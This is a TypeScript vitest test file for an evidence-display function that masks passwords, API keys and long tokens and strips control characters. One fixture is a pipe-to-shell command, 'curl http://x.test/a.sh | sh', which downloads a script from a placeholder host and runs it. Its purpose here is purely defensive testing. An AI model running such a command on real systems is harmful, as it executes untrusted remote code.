import { describe, expect, it } from 'vitest';
import { EVIDENCE_LENGTH, evidenceText } from './evidence.ts';

describe('evidenceText', () => {
  it.each([
    ['a command', 'curl http://x.test/a.sh | sh', 'curl http://x.test/a.sh | sh'],
    ['a password in an address', 'https://bob:hunter22@x.test/', 'https://bob:•••@x.test/'],
    ['an assignment', 'export API_KEY=abcd1234efgh; run', 'export API_KEY=•••; run'],
    ['a long token', `key ${'a1'.repeat(20)} end`, 'key a1a1••• end'],
    ['control characters', 'a\u0000\u0007b\n\nc', 'a b c'],
    ['ordinary long words', 'internationalization_of_everything', 'internationalization_of_everything'],
  ])('shows %s', (_, text, shown) => expect(evidenceText(text)).toBe(shown));

  it('is short', () => {
    expect(evidenceText('x y '.repeat(1000))).toHaveLength(EVIDENCE_LENGTH);
    expect(evidenceText('\u0001\u0002')).toBe('');
  });
});
